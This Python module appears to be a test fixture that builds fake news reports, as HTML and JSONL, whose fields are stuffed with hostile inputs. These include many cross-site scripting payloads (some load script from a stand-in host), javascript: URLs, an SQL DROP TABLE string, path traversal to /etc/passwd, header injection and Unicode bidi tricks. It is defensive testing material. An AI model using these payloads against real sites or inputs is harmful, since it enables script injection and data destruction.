"""Hostile reports: markup, scripts, odd characters and huge words where names and places stand.

Each payload that ran would either set ``window.ran`` or ask another machine for something.
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from dataclasses import dataclass

CALL = "window.ran=1"
ELSEWHERE = "https://elsewhere.example"

MARKUP = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f'"><img src=x onerror="{CALL}">',
    f"'><img src={ELSEWHERE}/a.png onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f'<svg><use href="{ELSEWHERE}/x.svg#y"/></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>">',
    f'<a href="javascript:{CALL}">here</a>',
    f"javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"<link rel=stylesheet href={ELSEWHERE}/a.css>",
    f"<style>@import '{ELSEWHERE}/b.css';</style>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}/>",
    f"<form action={ELSEWHERE}><button>go</button></form>",
    f"<object data={ELSEWHERE}/o></object><embed src={ELSEWHERE}/e>",
    f"<details open ontoggle={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
    f"<!--><script>{CALL}</script-->",
    f"<![CDATA[<script>{CALL}</script>]]>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#x3C;img src=x onerror={CALL}&#x3E;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"<img src=`x` onerror={CALL}>",
    f"<body onload={CALL}>",
    f"<template><script>{CALL}</script></template>",
    f'<x style="background:url({ELSEWHERE}/s.png)">',
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"__proto__[ran]=1 <script src={ELSEWHERE}/p.js></script>",
)
ODD = (
    "\u202eTRELA\u202c",  # right-to-left override
    "\u2066\u2067\u202d hidden \u2069\u2069",
    "\u0000\u0001\u0007\u001b[31mred\u001b[0m",
    "\u200b\u200c\u200d\ufeff",
    "Z" + "\u0334\u0335\u0336" * 60,  # marks piled up
    "W" * 4_000,  # a word wider than any page
    "=HYPERLINK(0)",
    "\u2028\u2029",
    "\U000e0041\U000e0042",  # tags
    "\ud7ff\ufffe\uffff",
    "%00%0d%0aSet-Cookie:ran=1",
    "../../../../etc/passwd",
    "')); DROP TABLE events; --",
    "𓀀" * 40,
    "\u202e" * 3 + "أ" * 30,
)

SENTENCES = (
    "The {0} brigade attacked {1} on Monday, killing 12 people, the {2} ministry said.",
    "{0} supplied 40 Shahab-3 missiles with a range of 1,300 km to {1}, {2} told reporters.",
    "Rebels of {0} denied on Tuesday that they had shelled Aden, according to {2}.",
    "“{1}”, said {0}, a spokesman for {2}. A bomb killed 3 soldiers in Mosul on 4 May 2022.",
)


@dataclass(frozen=True)
class Hostile:
    """A hostile report and what is stated about it."""

    text: str
    title: str
    byline: str
    publisher: str
    url: str


def hostile_reports(number: int, seed: int = 20261130) -> Iterator[Hostile]:
    """So many hostile reports, the same for the same seed."""
    chance = random.Random(seed)
    payloads = [*MARKUP, *ODD]
    for n in range(number):
        # Every payload is the first one of some reports; the others are drawn.
        first = payloads[n % len(payloads)]
        some = [first, *chance.choices(payloads, k=4)]
        chance.shuffle(some)
        sentences = (one.format(*chance.sample(some, 3)) for one in SENTENCES)
        yield Hostile(
            text=f"Shelling in {some[0]}\n\n" + "\n\n".join(sentences) + f"\n\nReport {n} {first}",
            title=f"Report {n}: {first}",
            byline=f"By {chance.choice(some)}",
            publisher=f"Post {chance.choice(some)}"[:400],
            url=chance.choice(
                (
                    f"javascript:{CALL}//{n}",
                    f"{ELSEWHERE}/{n}?q={chance.choice(MARKUP)}",
                    f"data:text/html,<script>{CALL}</script>{n}",
                    f"https://paper.example/{n}",
                )
            ),
        )


def as_html(report: Hostile) -> str:
    """A page that says the same, its markup as it is."""
    return (
        f"<!doctype html><html><head><title>{report.title}</title>"
        f'<meta property="og:site_name" content="{report.publisher}">'
        f'<meta property="article:published_time" content="2022-05-18T09:00:00Z">'
        f"<script>{CALL}</script></head><body><article><h1>{report.title}</h1>"
        f"<p>{report.byline}</p>"
        + "".join(f"<p>{part}</p>" for part in report.text.split("\n\n"))
        + "</article></body></html>"
    )


def as_json(report: Hostile) -> str:
    """A line of JSONL that says the same."""
    return json.dumps(
        {"text": report.text, "title": report.title, "byline": report.byline}
        | {"publisher": report.publisher, "url": report.url, "published": "2022-05-18"}
    )
